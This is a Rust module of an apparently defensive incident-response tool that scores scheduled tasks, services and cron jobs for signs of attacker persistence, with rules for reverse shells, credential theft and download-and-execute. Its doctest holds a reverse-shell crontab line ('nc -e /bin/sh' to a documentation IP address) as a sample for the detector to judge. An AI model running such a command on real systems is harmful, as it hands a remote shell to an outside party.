//! Findings: one verdict per persistence item (task, service, cron job, timer), ranked, with
//! every point of its score explained.
//!
//! Each rule reads facts the scan already holds (what the item runs and from where, how and
//! by whom it was made, what became of it, how often it runs) and, when it applies, gives a
//! [`Reason`] with the rule's stable id, what it matched and its weight. The weights and the
//! severity thresholds are one reviewed table, `rules.tsv` beside this file; the score is the
//! sum of the reasons' weights clamped to 0–100, and an item with no reason is `info` (listed,
//! so that "nothing found" and "not looked at" differ).
//!
//! The rules are pure functions of one record ([`judge`]); [`crate::Report::findings`] judges
//! every persistence record of a report and sorts the findings by score, highest first.
use crate::scan::{Binary, BinaryStatus, Record, RunCommand, Source};
use foothold_core::{CommandFlag, CreatedBy, Recovered};
use serde::Serialize;
use std::collections::BTreeSet;
use std::sync::OnceLock;

mod across;
mod monitor;
pub mod remediate;
mod report;
mod sigma;
mod text;

pub use across::judge_across;
pub use monitor::{monitoring_rules, sigma_literal, MonitorRule};
pub use remediate::{
    markdown as remediation_markdown, powershell as remediation_powershell, ps_quote, remediation,
    remediation_plan, remediation_steps, sh_quote, shell as remediation_shell, step_schema, Step,
};
pub use report::{answers, report_html, report_markdown, Answer, Examined, IncidentReport};

foothold_core::named_enum! {
    /// How bad a finding is, from its score (thresholds in `rules.tsv`).
    pub enum Severity {
        /// Nothing to say (no reason), or reasons that speak for the item.
        Info => "info",
        /// One weak reason.
        Low => "low",
        /// Worth a look: a strong reason or several weak ones.
        Medium => "medium",
        /// Likely the attacker's.
        High => "high",
        /// The attacker's beyond reasonable doubt.
        Critical => "critical",
    }
}

/// One point of a finding's score: which rule, what it matched, how much it weighs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct Reason {
    /// The rule's stable id (`encoded_command`, `created_over_network`…): suppress by it.
    pub id: String,
    /// What the rule means and the value it matched.
    pub text: String,
    /// Points added to the score (negative: speaks for the item).
    pub weight: i32,
}

/// The record a finding judges, named.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct Subject {
    /// `scheduled_task`, `service`, `cron_job`, `linux_service`; `event` for an event record
    /// a Sigma rule matched.
    pub artifact: String,
    /// The task path, service name, cron job's `file:line`, unit name; an event's channel,
    /// event ID and record ID (`System 7045 record 471480`).
    pub name: String,
    /// The machine (its computer name), when known.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub host: Option<String>,
    /// Where the record was found.
    pub source: Source,
    /// What makes two machines' items one when the name does not: a crontab line's command
    /// (its `name` is its `file:line`, and a line moves when another is added above it).
    /// Absent for the others.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
}

/// The verdict on one persistence item (or on an event record a Sigma rule matched).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct Finding {
    /// From the score.
    pub severity: Severity,
    /// 0–100, higher is worse: the sum of the reasons' weights, clamped.
    pub score: u8,
    /// One line an examiner reads: the item and its weightiest reason.
    pub title: String,
    /// ATT&CK technique ids: the item's own (`T1053.005`, `T1543.003`, `T1053.003`,
    /// `T1053.006`) and those its reasons add.
    pub techniques: Vec<String>,
    /// Every point of the score, weightiest first.
    pub reasons: Vec<Reason>,
    /// The record judged.
    pub subject: Subject,
    /// Who created it and from where (as the scan table shows it).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub created_by: Option<String>,
    /// The record's most telling time (its creation, else its last change).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub time: Option<foothold_fs::Timestamp>,
}

/// The JSON Schema of [`Finding`] (committed as `schema/finding.schema.json`).
pub fn finding_schema() -> schemars::Schema {
    crate::listing::serialize_schema::<Finding>()
}

/// One rule of the table.
#[derive(Debug, Clone)]
struct Rule {
    weight: i32,
    technique: Option<String>,
    text: String,
}

/// The table: rules by id, and the severity thresholds (lowest score of each level).
struct Table {
    rules: std::collections::HashMap<String, Rule>,
    thresholds: Vec<(Severity, i32)>,
    /// A Sigma rule's weight by its level.
    sigma: Vec<(foothold_sigma::Level, i32)>,
    /// The fewest machines a case needs for `rare_in_case` to speak.
    rare_min_hosts: i32,
}

fn table() -> &'static Table {
    static T: OnceLock<Table> = OnceLock::new();
    T.get_or_init(|| parse_table(include_str!("rules.tsv")))
}

/// `rules.tsv` read; a malformed line is a bug of the crate (the unit test reads it).
fn parse_table(tsv: &str) -> Table {
    let mut rules = std::collections::HashMap::new();
    let mut thresholds = Vec::new();
    let mut sigma = Vec::new();
    let mut rare_min_hosts = i32::MAX;
    for line in tsv
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
    {
        let cols: Vec<&str> = line.split('\t').collect();
        match cols.as_slice() {
            ["severity", level, score] => {
                if let (Some(level), Ok(score)) = (Severity::from_name(level), score.parse()) {
                    thresholds.push((level, score));
                }
            }
            ["threshold", "rare_min_hosts", n] => {
                if let Ok(n) = n.parse() {
                    rare_min_hosts = n;
                }
            }
            ["sigma", level, weight] => {
                use foothold_sigma::Level as L;
                let level = [L::Informational, L::Low, L::Medium, L::High, L::Critical]
                    .into_iter()
                    .find(|l| l.as_str() == *level);
                if let (Some(level), Ok(weight)) = (level, weight.parse()) {
                    sigma.push((level, weight));
                }
            }
            ["rule", id, weight, technique, text] => {
                if let Ok(weight) = weight.parse() {
                    rules.insert(
                        id.to_string(),
                        Rule {
                            weight,
                            technique: (*technique != "-").then(|| technique.to_string()),
                            text: text.to_string(),
                        },
                    );
                }
            }
            _ => {}
        }
    }
    thresholds.sort_by_key(|(_, s)| std::cmp::Reverse(*s));
    Table {
        rules,
        thresholds,
        sigma,
        rare_min_hosts,
    }
}

/// The ids of every rule of the table (for documentation and tests).
pub fn rule_ids() -> Vec<String> {
    let mut ids: Vec<String> = table().rules.keys().cloned().collect();
    ids.sort();
    ids
}

/// What the rules read of one persistence record, whatever its family.
struct Facts<'a> {
    artifact: &'static str,
    /// The item's own technique.
    technique: &'static str,
    name: String,
    /// The last component of the name (a task's leaf, a service's key name).
    leaf: String,
    windows: bool,
    runs: &'a [RunCommand],
    created_by: Option<&'a CreatedBy>,
    recovered: Option<&'a Recovered>,
    /// The shadow copy it was read from, if any.
    snapshot: Option<&'a crate::SnapshotRef>,
    /// The shortest interval between runs.
    interval: Option<u64>,
    /// The runs a log saw (a task's Task Scheduler Operational log).
    ran: Option<&'a foothold_windows::RunsSeen>,
    /// The record's flags and its creator's (`no_security_descriptor`,
    /// `file_owner_not_crontab_owner`…).
    flags: Vec<String>,
    /// Runs as SYSTEM, root or an administrator.
    privileged: bool,
    /// A display name (services).
    display: Option<String>,
    /// A kernel or file-system driver: its path is not a command line (the loader takes it
    /// whole, so spaces cannot be hijacked).
    driver: bool,
}

fn facts<'a>(r: &Record<'a>) -> Option<Facts<'a>> {
    let creator_flags = |c: Option<&CreatedBy>| c.map(|c| c.flags.clone()).unwrap_or_default();
    Some(match *r {
        Record::ScheduledTask(t) => {
            let mut flags: Vec<String> = t.task.flags.iter().map(ToString::to_string).collect();
            flags.extend(creator_flags(t.created_by.as_ref()));
            // Deployed by a GPO: how, and what it exposes.
            if let Some(g) = &t.gpo {
                flags.push("gpo_deployed".into());
                if g.kind.starts_with("immediate") {
                    flags.push("gpo_immediate".into());
                }
                if g.cpassword_present {
                    flags.push("gpo_cpassword".into());
                }
            }
            Facts {
                artifact: "scheduled_task",
                technique: if t.task.job.is_some() {
                    "T1053.002"
                } else {
                    "T1053.005"
                },
                name: t.task.name.clone(),
                leaf: t.task.name.rsplit('\\').next().unwrap_or("").to_string(),
                windows: true,
                runs: &t.runs,
                created_by: t.created_by.as_ref(),
                recovered: t.recovered.as_ref(),
                snapshot: t.source.snapshot.as_ref(),
                interval: t.frequency.iter().filter_map(|f| f.interval_seconds).min(),
                ran: t.runs_seen.as_ref(),
                flags,
                privileged: t.account.as_ref().is_some_and(|a| a.admin),
                display: None,
                driver: false,
            }
        }
        Record::Service(s) => Facts {
            artifact: "service",
            flags: {
                let mut flags = creator_flags(s.created_by.as_ref());
                if let Some(g) = &s.gpo {
                    flags.push("gpo_deployed".into());
                    if g.cpassword_present {
                        flags.push("gpo_cpassword".into());
                    }
                }
                flags
            },
            technique: "T1543.003",
            name: s.service.name.clone(),
            leaf: s.service.name.clone(),
            windows: true,
            runs: &s.runs,
            created_by: s.created_by.as_ref(),
            recovered: s.recovered.as_ref(),
            snapshot: s.source.snapshot.as_ref(),
            interval: None,
            ran: None,
            privileged: s.account.as_ref().is_some_and(|a| a.admin)
                || s.service.object_name.is_none(),
            display: s.service.display_name.clone(),
            driver: s
                .service
                .type_names
                .iter()
                .any(|t| t == "kernel_driver" || t == "file_system_driver"),
        },
        Record::CronJob(c) => {
            let mut flags: Vec<String> = c.job.flags.iter().map(ToString::to_string).collect();
            flags.extend(creator_flags(c.created_by.as_ref()));
            let timer = c.job.kind == foothold_linux::CronKind::SystemdTimer;
            Facts {
                artifact: "cron_job",
                technique: if timer { "T1053.006" } else { "T1053.003" },
                name: match c.source.line {
                    Some(l) => format!("{}:{l}", c.source.path),
                    None => c.source.path.clone(),
                },
                leaf: c.source.path.rsplit('/').next().unwrap_or("").to_string(),
                windows: false,
                runs: &c.runs,
                created_by: c.created_by.as_ref(),
                recovered: c.recovered.as_ref(),
                snapshot: c.source.snapshot.as_ref(),
                interval: c.frequency.as_ref().and_then(|f| f.interval_seconds),
                ran: None,
                flags,
                privileged: c.account.as_ref().is_some_and(|a| a.admin)
                    || c.job.user.as_deref() == Some("root"),
                display: None,
                driver: false,
            }
        }
        Record::LinuxService(l) => {
            let svc = &l.service;
            let mut flags: Vec<String> = svc.flags.iter().map(ToString::to_string).collect();
            flags.extend(creator_flags(l.created_by.as_ref()));
            // Enabled, and not a package's: a unit where an administrator (or an intruder)
            // puts units, or one the package database does not know (init scripts and
            // `rc.local` live in /etc either way).
            let unpackaged = svc
                .flags
                .contains(&foothold_linux::ServiceFlag::NotFromAPackage);
            let local = match svc.kind {
                foothold_linux::ServiceKind::SystemdService => !svc.vendor || unpackaged,
                _ => unpackaged || svc.kind == foothold_linux::ServiceKind::RcLocal,
            };
            if local && svc.enabled == Some(true) && !svc.masked {
                flags.push("enabled_local_service".into());
            }
            Facts {
                artifact: "linux_service",
                technique: "T1543.002",
                name: svc.name.clone(),
                leaf: svc.name.clone(),
                windows: false,
                runs: &l.runs,
                created_by: l.created_by.as_ref(),
                recovered: None,
                snapshot: l.source.snapshot.as_ref(),
                interval: None,
                ran: None,
                flags,
                privileged: l.account.as_ref().is_some_and(|a| a.admin)
                    || (svc.user.as_deref().is_none_or(|u| u == "root") && !svc.dynamic_user),
                display: svc.description.clone(),
                driver: false,
            }
        }
        // Not persistence items. (Exhaustive: a new kind of record must say whether it is
        // judged.)
        Record::Account(_)
        | Record::Host(_)
        | Record::Session(_)
        | Record::Event(_)
        | Record::Error(_)
        | Record::Warning(_) => return None,
    })
}

/// Every binary a record runs.
fn binaries<'a>(f: &Facts<'a>) -> impl Iterator<Item = &'a Binary> {
    f.runs.iter().flat_map(|r| r.binaries.iter())
}

/// The reasons one record gives: (rule id, what it matched), in the order the rules run.
fn reasons_of(f: &Facts) -> Vec<(&'static str, String)> {
    let mut out: Vec<(&'static str, String)> = Vec::new();
    let mut say = |id: &'static str, what: String| {
        if !out.iter().any(|(i, _)| *i == id) {
            out.push((id, what));
        }
    };
    // What it runs: every command line, and what encoded commands decode to.
    for run in f.runs {
        let inv = &run.invocation;
        let line = &inv.command_line;
        // (With the item's name: a service named for its tool, `WCESERVICE`, `mimidrv`.)
        let mut lower = text::lower_all(line, &inv.decoded);
        lower.push('\n');
        lower.push_str(&f.name.to_lowercase());
        if let Some(m) = text::credential_theft(&lower) {
            say("credential_theft", m.to_string());
        }
        if let Some(m) = text::reverse_shell(&lower) {
            say("reverse_shell", m.to_string());
        }
        if lower.contains("\\\\.\\pipe\\") && lower.contains("echo") {
            say("pipe_impersonation", text::short(line));
        }
        let program = text::file_name(&inv.program).to_ascii_lowercase();
        if f.artifact == "service" && text::is_interpreter(&program) {
            say("shell_as_service", text::short(line));
        }
        if f.artifact == "service" && text::is_remote_admin(&program, &f.name) {
            say(
                "remote_admin_service",
                format!("{} ({})", f.name, inv.program),
            );
        }
        if inv.flags.iter().any(|fl| {
            matches!(
                fl,
                CommandFlag::EncodedCommand | CommandFlag::EncodedCommandNotDecoded
            )
        }) {
            let decoded = inv.decoded.first().map(|d| text::short(d));
            say(
                "encoded_command",
                decoded.map_or_else(|| text::short(line), |d| format!("decodes to {d}")),
            );
        }
        let downloads = text::downloads(&lower);
        if let Some(m) = downloads {
            if inv.flags.contains(&CommandFlag::PipedToShell) || text::executes_download(&lower) {
                say("download_and_execute", text::short(line));
            } else {
                say("downloads", m.to_string());
            }
        }
        if text::output_to_temp(&lower) {
            say("output_to_temp", text::short(line));
        }
        if inv.flags.contains(&CommandFlag::InlineScript) {
            say("inline_script", text::short(line));
        }
        if f.artifact != "service" && text::is_launcher(&program) {
            say("launcher", inv.program.clone());
        }
        if !f.driver && inv.flags.contains(&CommandFlag::UnquotedPathWithSpaces) {
            say("unquoted_path", text::short(line));
        }
    }
    // Where what it runs lives.
    for b in binaries(f) {
        let path = b.path.as_deref().unwrap_or(&b.written);
        let p = text::normalized(path);
        let writable = text::user_writable(&p, f.windows);
        if writable {
            say("user_writable_path", b.written.clone());
            if f.privileged {
                say("runs_privileged_from_user_path", b.written.clone());
            }
        } else if text::nonstandard(&p, f.windows) {
            say("nonstandard_path", b.written.clone());
        }
        if !f.windows && text::hidden_component(&p) {
            say("hidden_path", b.written.clone());
        }
        if f.windows && text::windows_root_program(&p) {
            say("windows_root_binary", b.written.clone());
        }
        if b.flags.iter().any(|x| x == "unquoted_path_hijack") {
            say("unquoted_path_hijack", b.written.clone());
        }
        match b.status {
            BinaryStatus::Deleted => say("binary_deleted", b.written.clone()),
            BinaryStatus::Missing => say("binary_missing", b.written.clone()),
            _ => {}
        }
        if writable || text::nonstandard(&p, f.windows) {
            let official = f.name.to_ascii_lowercase().starts_with("\\microsoft\\")
                || f.display.as_deref().is_some_and(|d| {
                    let d = d.to_ascii_lowercase();
                    d.starts_with("microsoft ") || d.starts_with("windows ")
                });
            if official {
                say("masquerading", format!("{} runs {}", f.name, b.written));
            }
        }
        let stem = text::file_name(&b.written);
        let stem = stem.rsplit_once('.').map_or(stem, |(s, _)| s);
        if b.kind == foothold_core::TargetKind::Program && text::random_looking(stem) {
            say("random_name", stem.to_string());
        }
    }
    if text::random_looking(&f.leaf) {
        say("random_name", f.leaf.clone());
        if f.artifact == "service"
            && binaries(f).any(|b| text::windows_root_program(&text::normalized(&b.written)))
        {
            say("psexec_pattern", f.leaf.clone());
        }
    }
    // How it was made, and what became of it.
    if let Some(c) = f.created_by {
        if let Some(s) = &c.session {
            let network = s.logon_type_name.as_deref() == Some("network");
            if network
                || s.source_address
                    .as_deref()
                    .is_some_and(text::remote_address)
            {
                let from = s
                    .source_address
                    .as_deref()
                    .map(|a| format!(" from {a}"))
                    .unwrap_or_default();
                let who = c.user.as_deref().unwrap_or("?");
                say("created_over_network", format!("by {who}{from}"));
            }
        }
    }
    if let Some(r) = f
        .recovered
        .filter(|r| r.from == foothold_core::RecoveredFrom::Snapshot)
    {
        let at = f
            .snapshot
            .map(|s| {
                let when = s
                    .created
                    .map(|t| format!(", taken {t}"))
                    .unwrap_or_default();
                format!("shadow copy {}{when}", s.store)
            })
            .unwrap_or_else(|| "a shadow copy".into());
        if r.notes.iter().any(|n| n == "differs_from_live") {
            say("changed_since_snapshot", format!("as {at} holds it"));
        } else {
            say("removed_since_snapshot", format!("read back from {at}"));
        }
    } else if let Some(r) = f.recovered {
        match (r.created, r.deleted) {
            (Some(c), Some(d)) => {
                say("deleted", format!("deleted {d} ({})", r.from));
                let secs = d.unix_seconds().saturating_sub(c.unix_seconds());
                if (0..=600).contains(&secs) {
                    say(
                        "short_lived",
                        format!("created {c}, deleted {secs} s later"),
                    );
                }
            }
            (_, Some(d)) => say("deleted", format!("deleted {d} ({})", r.from)),
            _ if r.notes.iter().any(|n| n == "deleted_at_unknown_time") => say(
                "deleted",
                format!("deleted at a time no record gives ({})", r.from),
            ),
            // Rebuilt from logs because the live services were not read: nothing says it
            // is gone, nothing to say.
            _ if r.notes.iter().any(|n| n == "services_not_read") => {}
            _ => say("only_in_logs", format!("rebuilt from {}", r.from)),
        }
    }
    for flag in &f.flags {
        let id = match flag.as_str() {
            "no_security_descriptor" => "no_security_descriptor",
            "index_zero" => "index_zero",
            "xml_registry_mismatch" => "xml_registry_mismatch",
            "registry_only" => "registry_only",
            "author_differs_from_creator" => "author_differs_from_creator",
            "file_owner_not_crontab_owner" => "file_owner_not_crontab_owner",
            "gpo_deployed" => "gpo_deployed",
            "gpo_immediate" => "gpo_immediate",
            "gpo_cpassword" => "gpo_cpassword",
            "gpo_item_differs" => "gpo_item_differs",
            "dot_file_ignored_by_cron" | "name_ignored_by_debian_cron" | "ignored_by_run_parts" => {
                "ignored_by_cron"
            }
            "exec_changed_by_drop_in" => "exec_changed_by_drop_in",
            "overrides_vendor_unit" => "overrides_vendor_unit",
            "enabled_local_service" => "enabled_local_service",
            "not_from_a_package" => "not_from_a_package",
            _ => continue,
        };
        say(id, flag.clone());
    }
    // How often: what its triggers ask for, else what the log saw it do (three runs or more,
    // on average five minutes apart or closer).
    let seen_every = f.ran.and_then(|r| {
        let span = r
            .last?
            .unix_seconds()
            .checked_sub(r.first?.unix_seconds())?;
        let gaps = r.runs.checked_sub(1).filter(|g| *g >= 2)?;
        u64::try_from(span).ok().map(|s| s / gaps)
    });
    if let Some(i) = f.interval.filter(|i| *i > 0 && *i <= 300) {
        say("frequent", format!("every {i} s"));
    } else if let Some(i) = seen_every.filter(|i| *i <= 300) {
        say(
            "frequent",
            format!("ran every {i} s on average, as its log saw it"),
        );
    }
    // It ran: the log saw it start (a definition that never ran is less urgent).
    if let Some(r) = f.ran.filter(|r| r.runs > 0) {
        let when = match (r.first, r.last) {
            (Some(a), Some(b)) if a != b => format!(", {a} to {b}"),
            (Some(a), _) => format!(", {a}"),
            _ => String::new(),
        };
        say("ran", format!("{} run(s){when}", r.runs));
    }
    // What speaks for it: every program found, in the Windows folder, signed by Microsoft
    // with a digest that matches.
    let programs: Vec<&Binary> = binaries(f)
        .filter(|b| b.kind == foothold_core::TargetKind::Program)
        .collect();
    if f.windows
        && !programs.is_empty()
        && programs.iter().all(|b| {
            let p = text::normalized(b.path.as_deref().unwrap_or(""));
            p.starts_with("/windows/") && text::microsoft_signed(b)
        })
    {
        say(
            "microsoft_signed_system_binary",
            programs
                .iter()
                .map(|b| b.written.clone())
                .collect::<Vec<_>>()
                .join(", "),
        );
    }
    out
}

/// The finding on one record; `None` for a record that is not a persistence item (an
/// account, an event, a session, a host, an error).
///
/// ```
/// use foothold::{CronJob, CronJobRecord, CronKind, Record, Severity, Source};
/// let rec = CronJobRecord {
///     job: CronJob::new(CronKind::Crontab, "* * * * *", Some("alice".into()), "nc -e /bin/sh 203.0.113.7 4444"),
///     source: Source { path: "/var/spool/cron/crontabs/alice".into(), line: Some(1), ..Source::default() },
///     account: None, created_by: None, runs: vec![], frequency: None, recovered: None,
/// };
/// // With no `runs` (the scan fills them), the rules have no command to read.
/// let f = foothold::judge(&Record::CronJob(&rec)).unwrap();
/// assert_eq!((f.severity, f.score, f.reasons.len()), (Severity::Info, 0, 0));
/// ```
pub fn judge(r: &Record<'_>) -> Option<Finding> {
    let f = facts(r)?;
    let t = table();
    let mut reasons: Vec<Reason> = Vec::new();
    let mut techniques: BTreeSet<String> = BTreeSet::new();
    techniques.insert(f.technique.to_string());
    for (id, what) in reasons_of(&f) {
        let Some(rule) = t.rules.get(id) else {
            continue;
        };
        if let Some(tech) = &rule.technique {
            techniques.insert(tech.clone());
        }
        reasons.push(Reason {
            id: id.to_string(),
            text: format!("{}: {what}", rule.text),
            weight: rule.weight,
        });
    }
    let s = r.summary();
    let what = match f.artifact {
        "scheduled_task" => "task",
        "service" => "service",
        _ => s.label.as_str(),
    };
    let subject = format!("{what} {}", f.name);
    let source = r.source().clone();
    let mut finding = Finding {
        severity: Severity::Info,
        score: 0,
        title: subject,
        techniques: techniques.into_iter().collect(),
        reasons,
        subject: Subject {
            artifact: f.artifact.to_string(),
            name: f.name,
            host: source.host.clone(),
            command: match r {
                Record::CronJob(c) if c.source.line.is_some() => Some(c.job.command.clone()),
                _ => None,
            },
            source,
        },
        created_by: s.created_by,
        time: s.time,
    };
    finding.rescore();
    Some(finding)
}

impl crate::Report {
    /// One finding per persistence item (task, service, cron job, timer), highest score
    /// first (ties: by severity, then name), each with the record it judges.
    pub fn findings(&self) -> Vec<(Finding, Record<'_>)> {
        self.findings_with(None)
    }
}

impl Finding {
    /// Adds the reason of table rule `id` (and its technique), saying `what` it matched,
    /// unless the finding has it already: whether it was added. The caller rescores.
    fn add_reason(&mut self, id: &str, what: String) -> bool {
        let Some(rule) = table().rules.get(id) else {
            return false;
        };
        if self.reasons.iter().any(|r| r.id == id) {
            return false;
        }
        if let Some(tech) = &rule.technique {
            if !self.techniques.contains(tech) {
                self.techniques.push(tech.clone());
                self.techniques.sort();
            }
        }
        self.reasons.push(Reason {
            id: id.to_string(),
            text: format!("{}: {what}", rule.text),
            weight: rule.weight,
        });
        true
    }

    /// Score, severity and title from the reasons (sorted weightiest first): the score is
    /// their sum clamped to 0–100, the severity its level in the table (`info` when no reason
    /// counts against the item), the title the subject and its weightiest reason.
    fn rescore(&mut self) {
        let t = table();
        // The subject is the title without its weightiest reason (as the last call wrote it).
        let subject = match self.reasons.first().filter(|r| r.weight > 0) {
            Some(top) => self
                .title
                .strip_suffix(&format!(": {}", top.text))
                .unwrap_or(&self.title),
            None => &self.title,
        }
        .to_string();
        self.reasons.sort_by_key(|r| std::cmp::Reverse(r.weight));
        let sum: i32 = self.reasons.iter().map(|r| r.weight).sum();
        self.score = u8::try_from(sum.clamp(0, 100)).unwrap_or(0);
        self.severity = if self.reasons.iter().all(|r| r.weight <= 0) {
            Severity::Info
        } else {
            t.thresholds
                .iter()
                .find(|(_, min)| i32::from(self.score) >= *min)
                .map_or(Severity::Info, |(s, _)| *s)
        };
        self.title = match self.reasons.first().filter(|r| r.weight > 0) {
            Some(top) => format!("{subject}: {}", top.text),
            None => subject,
        };
    }

    /// The order findings are listed in: highest score first, then worse severity, then
    /// host and name.
    pub fn ranking(a: &Finding, b: &Finding) -> std::cmp::Ordering {
        b.score
            .cmp(&a.score)
            .then(b.severity.cmp(&a.severity))
            .then(a.subject.host.cmp(&b.subject.host))
            .then(a.subject.name.cmp(&b.subject.name))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_reads_whole() {
        let t = parse_table(include_str!("rules.tsv"));
        let lines = include_str!("rules.tsv")
            .lines()
            .filter(|l| l.starts_with("rule\t"))
            .count();
        assert_eq!(t.rules.len(), lines, "every rule line parses");
        assert_eq!(t.thresholds.len(), 4);
        assert_eq!(t.sigma.len(), 5, "a weight for each Sigma level");
        assert_eq!(t.rare_min_hosts, 3);
        for id in ["rare_in_case", "not_in_baseline"] {
            assert!(
                t.rules.contains_key(id),
                "{id} (across.rs) is not in rules.tsv"
            );
        }
        // Each id the code gives is in the table.
        let src = include_str!("mod.rs");
        for id in src
            .split("say(\"")
            .skip(1)
            .filter_map(|s| s.split('"').next())
        {
            assert!(t.rules.contains_key(id), "rule {id} is not in rules.tsv");
        }
    }

    /// A task its log saw run every minute says so (`ran`, `frequent` from the runs), and
    /// one its log never saw start says neither.
    #[test]
    fn runs_the_log_saw() {
        let t = |runs: Option<foothold_windows::RunsSeen>| crate::ScheduledTaskRecord {
            runs_seen: runs,
            ..crate::ScheduledTaskRecord::new(
                foothold_windows::ScheduledTask {
                    name: "\\upd".into(),
                    ..Default::default()
                },
                crate::Source::default(),
            )
        };
        let at = |x: &str| foothold_core::Timestamp::parse_rfc3339(x);
        let seen = foothold_windows::RunsSeen {
            runs: 11,
            first: at("2026-12-01T10:00:00Z"),
            last: at("2026-12-01T10:10:00Z"),
            ..Default::default()
        };
        let rec = t(Some(seen));
        let f = judge(&Record::ScheduledTask(&rec)).unwrap();
        let ids: Vec<&str> = f.reasons.iter().map(|r| r.id.as_str()).collect();
        assert_eq!(ids, ["frequent", "ran"], "{:?}", f.reasons);
        assert!(
            f.reasons[0].text.contains("every 60 s"),
            "{}",
            f.reasons[0].text
        );
        assert!(
            f.reasons[1]
                .text
                .contains("11 run(s), 2026-12-01T10:00:00Z to 2026-12-01T10:10:00Z"),
            "{}",
            f.reasons[1].text
        );
        let quiet = t(None);
        assert!(judge(&Record::ScheduledTask(&quiet))
            .unwrap()
            .reasons
            .is_empty());
    }
}
